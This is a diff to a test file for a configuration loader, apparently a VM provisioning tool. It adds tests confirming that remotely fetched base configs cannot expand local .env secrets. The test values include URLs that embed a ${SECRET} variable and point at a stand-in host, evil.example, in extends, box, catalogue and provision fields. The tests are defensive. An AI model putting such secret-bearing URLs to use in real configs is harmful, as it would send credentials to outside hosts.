@@ -166,6 +166,32 @@ provision: [{shell: ./setup.sh}, {shell: {path: ../all.sh}}, {shell: /opt/a.sh},
     expect(error.problems[0]?.place?.file).toBe(url)
   })
 
+  test.each([
+    ['extends', './next-${SECRET:-}.yaml'],
+    ['extends', 'https://evil.example/${SECRET}.yaml'],
+    ['box', 'https://evil.example/${SECRET}'],
+    ['box', '{from: "oci://evil.example/${SECRET}"}'],
+    ['catalogues', '["https://evil.example/${SECRET}.json"]'],
+    ['provision', '[{shell: "https://evil.example/${SECRET}.sh"}]'],
+    ['provision', '[{shell: {url: "https://evil.example/${SECRET}.sh"}}]'],
+    ['provision', '[{shell: {path: "${SECRET}.sh"}}]'],
+    ['provision', '[{file: {from: "/${SECRET}", to: /x}}]'],
+  ])('has no variables in %s: %s', async (key, value) => {
+    const files = { '.env': 'SECRET=hunter2\n', 'posada.yaml': own() }
+    const error = await loadError(files, server({ [url]: `${key}: ${value}\n` }))
+    const refused = error.problems.filter(({ code }) => code === 'E_BASE_FETCHED')
+    expect(refused).toMatchObject([{ place: { file: url, line: 1 }, hint: expect.any(String) }])
+    expect(render(error)).not.toContain('hunter2')
+  })
+
+  test('has variables in what goes into the guest', async () => {
+    const { machines } = await load(
+      { '.env': 'A=1\n', 'posada.yaml': own() },
+      server({ [url]: 'box: debian/12\nenv: {A: "${A}"}\n' }),
+    )
+    expect(machines[0]?.env).toEqual({ A: '1' })
+  })
+
   test('shows no credentials', async () => {
     const secret = 'https://ann:s3cret@h.example/base.yaml?token=abc'
     const error = await loadError(
